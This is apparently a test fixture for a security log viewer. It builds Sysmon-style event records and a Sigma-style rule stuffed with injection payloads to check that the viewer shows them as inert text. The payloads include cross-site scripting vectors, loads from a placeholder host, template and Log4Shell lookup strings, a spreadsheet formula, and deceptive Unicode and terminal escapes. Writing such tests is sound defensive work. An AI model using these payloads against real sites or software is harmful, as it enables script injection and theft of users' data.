/** In every record, so that the rule of the test fires on it and the test can count what arrived. */
export const MARKER = 'hostile-record';

const CALL = 'window.__pwned=1';
/** A host that does not exist; a request to it, even one that fails, fails the test. */
const FAR = 'http://far.invalid';

/** Markup, scripts and links: each runs, loads or opens something as soon as one screen takes it for more than text. */
const ACTIVE: readonly string[] = [
  `<script>${CALL}</script>`,
  `<ScRiPt src=${FAR}/a.js></sCrIpT>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="${FAR}/s.svg#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=${FAR}/pixel.gif>`,
  `<image href=${FAR}/pixel.gif>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:top.__pwned=1">`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<object data="${FAR}/o.swf">`,
  `<embed src="${FAR}/e">`,
  `<link rel=stylesheet href=${FAR}/s.css>`,
  `<style>@import '${FAR}/s.css';</style>`,
  `<meta http-equiv=refresh content="0;url=${FAR}/">`,
  `<base href=${FAR}/>`,
  `<form action=${FAR}/><button>Sign in again</button></form>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video src=${FAR}/v onerror=${CALL}>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<a href="${FAR}" target=_blank>click</a>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `[click](javascript:${CALL})`,
  `![pixel](${FAR}/pixel.gif)`,
  `[x]: ${FAR} "title"`,
  `${FAR}/a-link-that-nobody-made`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `\${jndi:ldap://far.invalid/a}`,
  `" onmouseover="${CALL}" x="`,
  `' style='background:url(${FAR}/b)' x='`,
  `url(${FAR}/c)`,
  `=HYPERLINK("${FAR}")`,
  '__proto__',
  'constructor',
];

/** Characters that would mislead a reader, with what must be shown instead. */
export const DECEPTIVE: readonly { readonly text: string; readonly shown: string }[] = [
  { text: 'invoice\u202Ecod.exe', shown: 'invoice\\u202ecod.exe' },
  { text: 'user\u2066admin\u2069', shown: 'user\\u2066admin\\u2069' },
  { text: 'svc\u200Bhost.exe', shown: 'svc\\u200bhost.exe' },
  { text: 'ad\u00ADmin', shown: 'ad\\u00admin' },
  { text: '\u001B[2J\u001B[31mred', shown: '\\e[2J\\e[31mred' },
  { text: '\u001B]8;;http://far.invalid\u0007link', shown: '\\e]8;;http://far.invalid\\u0007link' },
  { text: 'before\u0000after', shown: 'before\\0after' },
  { text: 'tag\u{E0041}ged', shown: 'tag\\u{e0041}ged' },
];

/** Every payload, and one value as long as a record may well hold. */
export const PAYLOADS: readonly string[] = [
  ...ACTIVE,
  ...DECEPTIVE.map(({ text }) => text),
  `<b>${'A'.repeat(64 * 1024)}</b><script>${CALL}</script>`,
];

/** One record for each payload, with the payload in every field that a screen, chart, chip or rule shows. */
export function hostileRecords(): object[] {
  return PAYLOADS.map((payload, index) => ({
    '@timestamp': new Date(Date.UTC(2025, 4, 1, 12, index)).toISOString(),
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    EventID: 1,
    Marker: MARKER,
    Computer: payload,
    Image: payload,
    OriginalFileName: payload,
    CommandLine: payload,
    CurrentDirectory: payload,
    ParentImage: payload,
    ParentCommandLine: payload,
    User: payload,
    Hashes: payload,
    DestinationIp: payload,
    message: payload,
    [`field ${payload.slice(0, 60)}`]: payload,
  }));
}

export const HOSTILE_RULE_ID = '7d0c9a6e-1f7b-4bb0-9f5d-0e4f5f0a4c11';

/** A rule that fires on each record, as hostile as they are. */
export const HOSTILE_RULE = JSON.stringify({
  title: `<img src=x onerror=${CALL}> \u202Eeltit`,
  id: HOSTILE_RULE_ID,
  status: 'experimental',
  description: `<script>${CALL}</script> [click](javascript:${CALL}) ![p](${FAR}/pixel.gif)`,
  author: `"><svg/onload=${CALL}>`,
  references: [`javascript:${CALL}`, `${FAR}/reference`, `data:text/html,<script>${CALL}</script>`],
  tags: ['attack.execution', 'attack.t1059.001'],
  logsource: { category: 'process_creation', product: 'windows' },
  detection: {
    marked: { Marker: MARKER },
    '<b>markup</b>': { 'CommandLine|contains': ['<script>', '<img', 'javascript:', '${'] },
    condition: 'marked or 1 of <b>markup*',
  },
  falsepositives: [`<iframe src="javascript:top.__pwned=1">`],
  level: 'critical',
});
